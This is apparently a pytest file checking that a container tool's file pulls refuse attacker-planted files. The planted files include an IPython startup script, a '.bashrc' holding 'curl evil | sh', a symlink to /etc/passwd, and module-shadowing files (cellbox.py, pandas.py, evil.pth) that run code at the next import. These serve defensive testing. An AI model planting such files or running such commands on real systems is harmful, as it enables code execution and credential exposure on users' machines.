"""Pulls with code in the container as the only attacker, against the real local server: `Sandbox.pull`,
`Sandbox.run(pull=...)`, pool pulls, and the magics in a real kernel. The container plants an IPython startup
file, a `.bashrc`, a file named like the user's notebook, a symlink and a file behind a folder that is a link out
of the target on the host, and modules the next kernel in the notebook's folder would import (`cellbox.py`,
`pandas.py`, a `.pth`); none of it is written unless asked, the notebook stays byte-identical, nothing lands
outside the target even when asked, and each pull says what it skipped. (Names with `..`, backslashes or absolute
paths can't be made in a container's filesystem; a hostile service's listing of them is in test_pull_safety.py.)"""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from kernelhelp import Kernel, local_env, text

import cellbox
from cellbox.local.testing import RunningServer

PLANT = """\
import os
os.makedirs('.ipython/profile_default/startup', exist_ok=True)
open('.ipython/profile_default/startup/00-x.py', 'w').write('open("/tmp/cellbox-pwned", "w")')
open('.bashrc', 'w').write('curl evil | sh')
open('notebook.ipynb', 'w').write('{"replaced": true}')
os.makedirs('out', exist_ok=True)
open('out/x.txt', 'w').write('through the link')
if not os.path.lexists('passwd-link'):
    os.symlink('/etc/passwd', 'passwd-link')
open('ok.txt', 'w').write('plain result')
"""
NOTEBOOK = b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}\n'
SKIPPED = (
    "skipped 2 hidden files (.bashrc, .ipython/…; --hidden / hidden=True brings them), "
    "1 existing file (notebook.ipynb; --force / force=True replaces it) "
    "and 1 file with an unsafe path (out/x.txt: out is a link leading out of the folder)"
)
UNSAFE_ONLY = "skipped 1 file with an unsafe path (out/x.txt: out is a link leading out of the folder)"


def places(root: Path) -> tuple[Path, Path]:
    """A notebook's folder holding the user's notebook and a link `out` to a folder elsewhere on the host (where
    the pull must not write), and that folder."""
    target, outside = root / "notebook-folder", root / "elsewhere"
    target.mkdir(parents=True)
    outside.mkdir()
    (target / "notebook.ipynb").write_bytes(NOTEBOOK)
    (target / "out").symlink_to(outside)
    return target, outside


def written(folder: Path) -> list[str]:
    return sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file() and not p.is_symlink())


def nothing_planted(target: Path, outside: Path) -> None:
    assert written(target) == ["notebook.ipynb", "ok.txt"]
    assert (target / "notebook.ipynb").read_bytes() == NOTEBOOK
    assert not (target / "passwd-link").exists() and not (target / "passwd-link").is_symlink()
    assert os.listdir(outside) == []


def asked_for(target: Path, outside: Path) -> None:
    """With hidden and force: the hidden files and the notebook's replacement, still nothing outside."""
    assert written(target) == [".bashrc", ".ipython/profile_default/startup/00-x.py", "notebook.ipynb", "ok.txt"]
    assert (target / "notebook.ipynb").read_text() == '{"replaced": true}'
    assert os.listdir(outside) == []


@pytest.fixture
def sandbox(use_local_server: RunningServer) -> Iterator[cellbox.Sandbox]:
    sb = cellbox.Sandbox.create(name="pull-attacks")
    yield sb
    sb.delete()


def test_sandbox_pull_writes_none_of_what_the_container_planted(sandbox: cellbox.Sandbox, tmp_path: Path) -> None:
    target, outside = places(tmp_path)
    run = sandbox.run(PLANT)
    assert run.ok, run.error
    pulled = sandbox.pull("*", to=target)
    assert pulled == [target / "ok.txt"] and (target / "ok.txt").read_text() == "plain result"
    assert pulled.note == SKIPPED
    nothing_planted(target, outside)

    again = sandbox.run(PLANT, pull=["*"], to=target)
    assert again.ok and again.notes[-1] == SKIPPED.replace(
        "1 existing file (notebook.ipynb; --force / force=True replaces it)",
        "2 existing files (notebook.ipynb, ok.txt; --force / force=True replaces them)",
    )
    nothing_planted(target, outside)

    forced = sandbox.pull("*", to=target, hidden=True, force=True)
    assert len(forced) == 4 and forced.note == UNSAFE_ONLY
    asked_for(target, outside)


def test_pool_pulls_write_none_of_it_into_each_parts_folder(use_local_server: RunningServer, tmp_path: Path) -> None:
    target, outside = places(tmp_path)
    part = target / "part-0"
    part.mkdir()
    (part / "notebook.ipynb").write_bytes(NOTEBOOK)
    (part / "out").symlink_to(outside)
    with cellbox.Pool(1, show=False) as pool:
        runs = pool.map(PLANT, pull=["*"], to=target)
        assert runs.ok
        (only,) = runs
        assert only.pulled == [part / "ok.txt"] and only.notes == [SKIPPED]
        assert written(part) == ["notebook.ipynb", "ok.txt"] and (part / "notebook.ipynb").read_bytes() == NOTEBOOK
        runs = pool.map(PLANT, pull=["*"], to=target, hidden=True, force=True)
        assert runs[0].notes == [UNSAFE_ONLY]
    asked_for(part, outside)


@pytest.fixture(scope="module")
def kernel(local_server: RunningServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Kernel]:
    home = tmp_path_factory.mktemp("kernel-home")
    env = local_env(local_server.base_url, local_server.token, home)
    k = Kernel(env)
    status, out = k.run("%load_ext cellbox\n%container new pull-attacks-magics")
    assert status == "ok", out
    yield k
    k.run("%container delete")
    k.stop()


def test_container_pull_of_everything_into_the_notebooks_folder(kernel: Kernel, tmp_path: Path) -> None:
    target, outside = places(tmp_path)
    status, out = kernel.run(f"%%container\n{PLANT}")
    assert status == "ok", out
    status, out = kernel.run(f"%container pull * --to {target}")
    assert status == "ok", out
    assert text(out, "stdout") == f"cellbox: pulled 1 file(s) into {target}; {SKIPPED}\n"
    nothing_planted(target, outside)
    status, out = kernel.run(f"%container pull * --to {target} --hidden --force")
    assert status == "ok", out
    assert text(out, "stdout") == f"cellbox: pulled 4 file(s) into {target}; {UNSAFE_ONLY}\n"
    asked_for(target, outside)


def test_a_cells_pull_says_what_it_skipped(kernel: Kernel, tmp_path: Path) -> None:
    target, outside = places(tmp_path)
    status, out = kernel.run(f"%%container --pull * --to {target}\n{PLANT}")
    assert status == "ok", out
    assert f"cellbox: {SKIPPED}\n" in text(out, "stderr")
    nothing_planted(target, outside)
    status, out = kernel.run(f"%%container --pull * --to {target} --hidden --force\n{PLANT}")
    assert status == "ok", out
    assert f"cellbox: {UNSAFE_ONLY}\n" in text(out, "stderr")
    asked_for(target, outside)


def test_a_pool_cells_pull_says_what_it_skipped(kernel: Kernel, tmp_path: Path) -> None:
    target, outside = places(tmp_path)
    (target / "part-0").mkdir()
    (target / "part-0" / "notebook.ipynb").write_bytes(NOTEBOOK)
    (target / "part-0" / "out").symlink_to(outside)
    status, out = kernel.run("%container pool 1 --name pull-attacks-pool")
    assert status == "ok", out
    try:
        status, out = kernel.run(f"%%container --pool --pull * --to {target}\n{PLANT}")
        assert status == "ok", out
        said = text(out, "stdout")
        assert f"cellbox: pulled 1 file(s) into {target}/part-N, one folder per part; {SKIPPED}\n" in said
        assert written(target / "part-0") == ["notebook.ipynb", "ok.txt"]
        assert (target / "part-0" / "notebook.ipynb").read_bytes() == NOTEBOOK and os.listdir(outside) == []
    finally:
        kernel.run("%container pool --delete")


# --- code that would run on the host at the next import ---------------------------------------------------------

SHADOW = """\
ran = {ran!r}
payload = f"open({{ran!r}}, 'a').write(__name__ + '\\\\n')\\n"
open('cellbox.py', 'w').write(payload)
open('pandas.py', 'w').write(payload)
open('evil.pth', 'w').write('import os; ' + payload)
open('helpers.py', 'w').write('def twice(x):\\n    return 2 * x\\n')
"""
SHADOW_SKIPPED = (
    "skipped 3 files that would shadow Python modules (cellbox.py, evil.pth, pandas.py; "
    "--modules / modules=True brings them)"
)


def test_sandbox_and_pool_pulls_bring_modules_only_when_asked(
    sandbox: cellbox.Sandbox, use_local_server: RunningServer, tmp_path: Path
) -> None:
    cell = SHADOW.format(ran=str(tmp_path / "ran"))
    run = sandbox.run(cell, pull=["*"], to=tmp_path / "run")
    assert run.ok and run.notes[-1] == SHADOW_SKIPPED and written(tmp_path / "run") == ["helpers.py"]
    pulled = sandbox.pull("cellbox.py", to=tmp_path / "run")
    assert pulled == [] and pulled.note == (
        "skipped 1 file that would shadow a Python module (cellbox.py; --modules / modules=True brings it)"
    )
    run = sandbox.run("1", pull=["*"], to=tmp_path / "run", modules=True, force=True)
    assert run.ok and written(tmp_path / "run") == ["cellbox.py", "evil.pth", "helpers.py", "pandas.py"]
    with cellbox.Pool(1, show=False) as pool:
        (part,) = pool.map(cell, pull=["*"], to=tmp_path / "pool")
        assert part.notes == [SHADOW_SKIPPED] and written(tmp_path / "pool") == ["part-0/helpers.py"]
        (part,) = pool.map(cell, pull=["*"], to=tmp_path / "pool", modules=True)
        assert part.notes == ["skipped 1 existing file (helpers.py; --force / force=True replaces it)"]
    assert written(tmp_path / "pool") == [f"part-0/{n}" for n in ("cellbox.py", "evil.pth", "helpers.py", "pandas.py")]
    assert not (tmp_path / "ran").exists()


def test_a_cells_pull_into_the_notebooks_folder_brings_no_module_a_kernel_would_import(
    local_server: RunningServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The container writes cellbox.py, pandas.py and a .pth next to a plain script, and the cell pulls "*" into
    the notebook's folder, which is the first place the next kernel there imports from: only the script lands,
    the cell says what it skipped and how to bring it, and the next `import cellbox, pandas` there runs nothing
    of the container's. Asked for (`--modules`), the rest lands, and would run."""
    folder, ran = tmp_path / "notebook-folder", tmp_path / "ran"
    folder.mkdir()
    env = {k: v for k, v in os.environ.items() if not k.startswith(("CELLBOX_", "OCI_"))}
    env.update(
        CELLBOX_BASE_URL=local_server.base_url,
        CELLBOX_API_KEY=local_server.token,
        CELLBOX_MODEL="cellbox-local",
        CELLBOX_STATE_DIR=str(tmp_path / "state"),
        XDG_CONFIG_HOME=str(tmp_path / "config"),
    )
    monkeypatch.chdir(folder)  # the kernel starts in the notebook's folder, as Jupyter starts it
    k = Kernel(env)
    monkeypatch.undo()
    cell = SHADOW.format(ran=str(ran))
    try:
        status, out = k.run("%load_ext cellbox\n%container new pull-attacks-shadow")
        assert status == "ok", out
        status, out = k.run(f'%%container --pull "*"\n{cell}')
        assert status == "ok", out
        assert f"cellbox: {SHADOW_SKIPPED}\n" in text(out, "stderr")
        assert written(folder) == ["helpers.py"]

        def next_kernel_imports() -> str:
            """What `import cellbox, pandas` from a fresh interpreter in the folder (first on its path) ran."""
            code = "import cellbox, pandas, helpers; assert helpers.twice(2) == 4"
            done = subprocess.run([sys.executable, "-c", code], cwd=folder, capture_output=True, text=True)
            assert done.returncode == 0, done.stderr
            return ran.read_text() if ran.exists() else ""

        assert next_kernel_imports() == ""

        status, out = k.run("%container pull pandas.py")  # named exactly: still skipped, the line says how
        assert status == "ok", out
        assert text(out, "stdout") == (
            "cellbox: pulled 0 file(s) into .; skipped 1 file that would shadow a Python module "
            "(pandas.py; --modules / modules=True brings it)\n"
        )
        status, out = k.run(f'%%container --pull "*" --modules\n{cell}')
        assert status == "ok", out
        assert "cellbox: skipped 1 existing file (helpers.py; --force / force=True replaces it)\n" in text(
            out, "stderr"
        )
        assert written(folder) == ["cellbox.py", "evil.pth", "helpers.py", "pandas.py"]
        assert next_kernel_imports() == "cellbox\npandas\n"  # what --modules lets in does run: it was asked for
    finally:
        k.run("%container delete")
        k.stop()
